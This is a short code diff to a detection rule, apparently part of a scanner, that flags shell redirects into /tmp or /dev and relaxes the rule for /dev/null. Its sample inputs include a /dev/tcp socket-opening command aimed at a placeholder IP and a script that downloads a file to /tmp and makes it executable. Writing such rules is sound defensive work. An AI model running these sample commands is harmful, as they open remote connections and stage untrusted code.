@@ -152,9 +152,9 @@ export const PATH_RULES: readonly Rule[] = [
     id: 'path-redirect-to-temporary',
     why: 'Writing where all may write, or to a device: `>/tmp/x`.',
     reach: 'parameter',
-    except: ['string', 'xml'],
+    except: ['xml'],
     literals: '/tmp/ /dev/',
-    test: />\s*\/(?:tmp|dev)\/(?!test\b)\w|^\/tmp\/\w+\.(?:sh|php|pl|py)\b/,
+    test: />\s*\/(?:tmp|dev)\/(?!(?:test|null)\b)\w|^\/tmp\/\w+\.(?:sh|php|pl|py)\b/,
     finds: 'bash -c "exec 3<>/dev/tcp/192.0.2.8/80"',
     leaves:
       '#!/usr/bin/env bash\nset -euo pipefail\n\nfor f in /etc/*.conf; do\n  cat "$f" | grep -v "^#" || true\ndone\ncurl -fsS "https://example.com/$(uname -s)" -o /tmp/x; chmod +x /tmp/x\n'
